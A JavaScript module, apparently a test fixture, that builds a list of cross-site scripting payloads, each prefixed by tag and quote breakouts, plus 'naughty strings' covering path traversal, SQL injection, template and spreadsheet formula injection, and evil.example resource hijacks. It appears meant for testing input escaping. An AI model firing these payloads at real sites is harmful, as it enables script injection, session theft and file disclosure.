// Texts that want to be more than text: what runs, in every way out of where a text may stand; and strings that break
// programs.
const WAYS_OUT = ["", "\">", "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "</svg>", "</noscript>", "\" ", "' ", "`"];
const RUN = "window.pwned=1;alert(1)";
const RUNS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<a href="javascript:${RUN}" autofocus tabindex=1 onfocus="${RUN}">x</a>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/"><script src=x.js></script>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css";*{background:url(https://evil.example/)}</style>`,
  `<form action="https://evil.example/"><button autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<template><script>${RUN}</script></template>`,
  `onmouseover="${RUN}" style="position:fixed;inset:0" x="`,
];
const NAUGHTY = [
  "javascript:window.pwned=1", " javascript:window.pwned=1", "JaVaScRiPt:window.pwned=1", "java\tscript:window.pwned=1",
  "data:text/html,<script>window.pwned=1</script>", "vbscript:msgbox(1)", "//evil.example/x", "\\\\evil.example\\x",
  "https://evil.example/\"onclick=\"window.pwned=1", "{{7*7}}", "{% include 'base.html' %}", "{{ site|safe }}", "${7*7}", "<%= 7*7 %>",
  "&lt;script&gt;window.pwned=1&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E", "<scr<script>ipt>",
  "<!--<script>", "<![CDATA[<script>", "<?xml version=\"1.0\"?>", "\u2028\u2029window.pwned=1", "\u202egnp.exe", "\ufeffx", "a\u0000b", "\u0007bell",
  "../../../../etc/passwd", "..\\..\\windows", "CON", "NUL.txt", "aux", ".htaccess", ".", "..", "/", "\\", "~", "%2e%2e%2f", "a/b/c",
  "undefined", "null", "NaN", "true", "constructor", "__proto__", "hasOwnProperty", "toString", "-1", "1e309", "0x7f", "' OR 1=1 --",
  "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽", "🎉", "Z̸̢͝a̶͖͠l̸̰͝g̴̨͠o̵̢͝", "السلام عليكم", "שלום ‏עולם", "日本語テキスト", "한국어", "ⅷ ﷽ ﬃ", "ＦＵＬＬ", "ı İ ß ẞ ς",
  "Donaudampfschiffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft".repeat(4), "W".repeat(300), "x ".repeat(500), "\u200b\u200b\u200b",
  "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "\"", "'", "<", ">", "&", "&&amp;", "<>", "</>", "<a", "<a href=", "topicmillSearch(\"x\",1)",
];

export const PAYLOADS = [...RUNS.flatMap(run => WAYS_OUT.map(out => out + run)), ...NAUGHTY];
